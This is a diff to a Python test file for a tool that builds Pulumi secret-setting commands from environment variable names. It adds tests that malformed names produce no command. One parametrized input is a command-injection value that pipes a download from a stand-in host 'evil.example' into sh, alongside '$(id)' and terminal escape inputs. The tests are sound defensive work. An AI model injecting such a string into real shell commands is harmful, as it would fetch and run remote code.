@@ -5,8 +5,9 @@ import yaml
 from hypothesis import given
 from hypothesis import strategies as st
 
-from infra.adopt.host import nginx
+from infra.adopt.host import command, nginx
 from infra.adopt.host.masking import MARK, looks_secret, masked
+from infra.adopt.host.remarks import Remark
 from infra.adopt.host.sections import sections
 from tests import secret_names
 from tests.support import ROOT
@@ -208,3 +209,16 @@ def test_a_file_of_which_the_rest_was_not_understood_cannot_be_read_as_if_it_wer
     text = "services:\n  a:\n    environment: {MODE: it's}\n  b:\n    image: x\n"
     with pytest.raises(yaml.YAMLError):
         yaml.safe_load(masked(COMPOSE, text))
+
+
+@pytest.mark.parametrize(
+    "name", ["KEY;curl${IFS}evil.example|sh;#", "A B", "$(id)", "KEY\x1b[2K", "A\nB", "--help", ""]
+)
+def test_no_command_is_made_of_a_name_that_no_variable_has(name):
+    line = command._set(Remark("secret", "app", name))
+    assert not line.startswith("pulumi") and "\x1b" not in line and "\n" not in line
+
+
+def test_a_secrets_command_names_it():
+    line = command._set(Remark("secret", "app", "API_KEY"))
+    assert line == "pulumi config set --secret --path infra:secrets.app.API_KEY"
